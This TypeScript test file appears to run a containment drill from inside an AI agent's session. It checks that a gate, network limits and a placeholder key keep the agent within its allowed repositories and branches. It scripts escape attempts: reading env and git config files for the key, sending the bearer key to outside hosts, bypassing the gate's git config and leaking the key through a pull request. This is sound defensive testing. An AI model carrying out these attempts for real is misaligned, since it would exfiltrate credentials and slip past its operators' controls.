import type { Environment } from "../../infra/model";
import { GATE_KEY_VARIABLE } from "../../infra/plans";
import type { DrillAnswer, DrillRow } from "../../cli/report/drill";
import type { AuditTrail } from "../drill/auditTrail";
import type { AgentSession, Answer, Ran } from "./session";

/** Where the agent of a posture is, and what it must not reach. */
export interface AgentDrill {
  readonly environment: Environment;
  readonly session: AgentSession;
  /** Host of the gate, as the posture names it. */
  readonly gateHost: string;
  /** Host of GitHub, which the sandbox must not reach. */
  readonly githubHost: string;
  /** A repository of the same organization that the posture does not list. */
  readonly unlisted: string;
  /** The gate key, which must not be in the sandbox. */
  readonly gateKey: string;
  /** The gate's records: git shows its user no rule. */
  readonly trail: AuditTrail;
}

/** What must stop an attempt: a rule of the gate, the network of the sandbox, or that the sandbox has a placeholder. */
type Stop =
  | { readonly by: "gate"; readonly rule: string }
  | { readonly by: "network"; readonly host: string }
  | { readonly by: "placeholder" };

interface Attempt extends Pick<DrillRow, "action" | "title" | "client"> {
  /** Absent for what the agent is there to do. */
  readonly stop?: Stop;
  /** `ok` says that it was done. */
  readonly run: () => Promise<DrillAnswer>;
}

/**
 * From inside a session: the work passes, and nothing else does. What is refused must be refused by what is there to
 * refuse it; a system that is broken refuses too, and proves nothing.
 * @param onRow told of each row as it is known
 */
export async function drillAsAgent(
  drill: AgentDrill,
  onRow: (row: DrillRow) => void = () => undefined,
): Promise<DrillRow[]> {
  const rows: DrillRow[] = [];
  for (const one of [...work(drill), ...stoppedByGate(drill), ...stoppedByNetwork(drill), ...keyStays(drill)]) {
    const { action, title, client } = one;
    const expect = one.stop === undefined ? "allowed" : "refused";
    const row: DrillRow = { action, title, client, expect, ...(await tried(drill, one)) };
    rows.push(row);
    onRow(row);
  }
  return rows;
}

async function tried(drill: AgentDrill, { run, stop, client }: Attempt): Promise<Pick<DrillRow, "answer" | "holds">> {
  const { session, trail } = drill;
  const before = session.outgoing.length;
  try {
    const position = await trail.position();
    const answer = await run();
    if (stop === undefined || answer.ok) return { answer, holds: (stop === undefined) === answer.ok };
    if (stop.by === "placeholder") return { answer, holds: true };
    if (stop.by === "network") {
      const left = session.outgoing.slice(before);
      const stopped = left.length > 0 && left.every(({ host, reached }) => host === stop.host && !reached);
      const rule = stopped ? "the sandbox's network" : `not the sandbox's network: ${answer.rule ?? ""}`;
      return { answer: { status: 0, ok: false, rule }, holds: stopped };
    }
    const denied =
      client === "git" ? (await trail.after(position)).find(({ decision }) => decision === "deny") : undefined;
    const rule = denied?.reason ?? answer.rule ?? "";
    return { answer: { ...answer, rule }, holds: rule === stop.rule };
  } catch (error) {
    // Not tried is not refused.
    const rule = `not tried: ${error instanceof Error ? error.message : String(error)}`;
    return { answer: { status: 0, ok: false, rule }, holds: false };
  }
}

const writable = ({ repositories }: Environment) => repositories.find(({ access }) => access === "write");
const branchOf = ({ id }: AgentSession): string => `claude/session-${id.slice(-12).toLowerCase()}`;

/** What the agent is there to do, in the addresses that every tool knows. */
function work({ environment, session, gateHost, githubHost }: AgentDrill): Attempt[] {
  const { organization, repositories } = environment;
  const clone = (address: string, folder: string): Attempt => ({
    action: "clone",
    title: `clone ${address}`,
    client: "git",
    run: async () => byGit(await session.bash(`git clone --quiet ${address} ${folder}`)),
  });
  const own = writable(environment);
  const read = repositories.find(({ access }) => access === "read");
  const reads = read === undefined ? [] : [clone(`git@${githubHost}:${organization}/${read.name}.git`, "read")];
  if (own === undefined) return reads;
  const branch = branchOf(session);
  const commit = `git checkout --quiet -b ${branch} && echo hello > hello.md && git add hello.md && git commit --quiet -m "Say hello"`;
  return [
    clone(`https://${githubHost}/${organization}/${own.name}`, "own"),
    ...reads,
    {
      action: "push-agent-branch",
      title: `push a branch below claude/ (${own.name})`,
      client: "git",
      run: async () => byGit(await session.bash(`cd own && ${commit} && git push --quiet origin ${branch}`)),
    },
    {
      action: "open-draft-pull-request",
      title: `open a draft pull request (${own.name})`,
      client: "fetch",
      run: async () => {
        const pull = { title: "Say hello", head: branch, base: own.defaultBranch, draft: true };
        const answer = await session.ask(
          "POST",
          rest(gateHost, environment, own.name, "/pulls"),
          bearer(session),
          pull,
        );
        const done = byHttp(answer);
        return done.ok && json(answer)["draft"] !== true
          ? { ...done, ok: false, rule: "the pull request is no draft" }
          : done;
      },
    },
  ];
}

/** What goes the right way and asks for too much. */
function stoppedByGate({ environment, session, gateHost, githubHost, unlisted }: AgentDrill): Attempt[] {
  const { organization, repositories } = environment;
  const own = writable(environment);
  return [
    {
      action: "read-other-repository",
      title: `clone another repository (${unlisted})`,
      client: "git",
      stop: { by: "gate", rule: "repository-not-listed" },
      run: async () =>
        byGit(await session.bash(`git clone --quiet https://${githubHost}/${organization}/${unlisted} other`)),
    },
    ...(own === undefined
      ? []
      : [
          {
            action: "push-default-branch",
            title: `push to ${own.defaultBranch} (${own.name})`,
            client: "git",
            stop: { by: "gate", rule: "ref-outside-agent-space" },
            run: async () => byGit(await session.bash(`cd own && git push --quiet origin HEAD:${own.defaultBranch}`)),
          } satisfies Attempt,
        ]),
    {
      action: "use-without-key",
      title: "ask the gate without the key",
      client: "fetch",
      stop: { by: "gate", rule: "unauthenticated" },
      run: async () => byHttp(await session.ask("GET", rest(gateHost, environment, repositories[0]?.name ?? ""))),
    },
  ];
}

/** What goes another way. */
function stoppedByNetwork({ environment, session, gateHost, githubHost }: AgentDrill): Attempt[] {
  const repository = `${environment.organization}/${environment.repositories[0]?.name ?? ""}`;
  const git = (title: string, address: string): Attempt => ({
    action: "reach-other-host",
    title,
    client: "git",
    stop: { by: "network", host: githubHost },
    // Without the commands of the system prompt, which would send it to the gate.
    run: async () => byGit(await session.bash(`GIT_CONFIG_GLOBAL=/dev/null git ls-remote ${address}`)),
  });
  const withKey = (title: string, url: string): Attempt => ({
    action: "reach-other-host",
    title,
    client: "fetch",
    stop: { by: "network", host: new URL(url).hostname },
    run: async () => byHttp(await session.ask("GET", url, bearer(session))),
  });
  return [
    git(`reach ${githubHost} itself`, `https://${githubHost}/${repository}`),
    git(`reach ${githubHost} without TLS`, `http://${githubHost}/${repository}`),
    withKey(`reach api.${githubHost} with the key`, `https://api.${githubHost}/user`),
    withKey("reach any other host with the key", "https://example.com/"),
    withKey("reach a name that begins like the gate's", `https://${gateHost}.example.com/`),
  ];
}

/** The key is not in the sandbox; it goes to the gate alone, and in headers alone. */
function keyStays({ environment, session, gateHost, gateKey }: AgentDrill): Attempt[] {
  const own = writable(environment);
  const stop: Stop = { by: "placeholder" };
  const placeholder = (): string => session.placeholders[GATE_KEY_VARIABLE] ?? "";
  /** @throws Error where the placeholder is not there either: then the attempt has looked in the wrong place */
  const shown = (text: string, status: number): DrillAnswer => {
    if (text.includes(gateKey)) return { status, ok: true };
    if (placeholder() === "" || !text.includes(placeholder())) throw new Error(`no placeholder in the answer: ${text}`);
    return { status: 0, ok: false, rule: "a placeholder" };
  };
  return [
    {
      action: "learn-gate-key",
      title: "find the key in the sandbox",
      client: "git",
      stop,
      run: async () => shown((await session.bash("env; cat ~/.gitconfig; cat */.git/config")).text, 200),
    },
    ...(own === undefined
      ? []
      : [
          {
            action: "learn-gate-key",
            title: "have the key written into a pull request",
            client: "fetch",
            stop,
            run: async () => {
              const pulls = rest(gateHost, environment, own.name, "/pulls");
              const list = await session.ask(
                "GET",
                `${pulls}?head=${environment.organization}:${branchOf(session)}`,
                bearer(session),
              );
              const [pull] = JSON.parse(list.text) as { number?: number }[];
              const answer = await session.ask("PATCH", `${pulls}/${pull?.number ?? ""}`, bearer(session), {
                body: placeholder(),
              });
              return shown(answer.text, answer.status);
            },
          } satisfies Attempt,
        ]),
    {
      action: "learn-gate-key",
      title: "have key or placeholder sent to another host",
      client: "fetch",
      stop,
      run: () => {
        const told = session.outgoing.filter(({ sent, kept }) => sent.length + kept.length > 0);
        const elsewhere = told.find(({ host }) => host !== gateHost);
        if (elsewhere !== undefined) return Promise.resolve({ status: 200, ok: true, rule: elsewhere.host });
        const used = told.filter(({ sent }) => sent.includes(GATE_KEY_VARIABLE)).length;
        if (used === 0) return Promise.reject(new Error("the key was never used"));
        return Promise.resolve({ status: 0, ok: false, rule: `${used} requests had it, all to the gate` });
      },
    },
  ];
}

const rest = (gateHost: string, { organization }: Environment, repository: string, path = ""): string =>
  `https://${gateHost}/repos/${organization}/${repository}${path}`;

const bearer = (session: AgentSession): Record<string, string> => ({
  authorization: `Bearer ${session.placeholders[GATE_KEY_VARIABLE] ?? ""}`,
});

function byGit({ code, text }: Ran): DrillAnswer {
  if (code === 0) return { status: 200, ok: true };
  const status = Number(/returned error: (\d{3})/.exec(text)?.[1] ?? 0);
  return { status, ok: false, rule: text.trim().split("\n").pop() ?? "" };
}

function byHttp(answer: Answer): DrillAnswer {
  if (answer.status > 0 && answer.status < 400) return { status: answer.status, ok: true };
  const { gatehouse, message } = json(answer) as { gatehouse?: { rule?: string }; message?: string };
  return { status: answer.status, ok: false, rule: gatehouse?.rule ?? message ?? answer.text.trim() };
}

function json({ text }: Answer): Record<string, unknown> {
  try {
    return JSON.parse(text) as Record<string, unknown>;
  } catch {
    return {};
  }
}
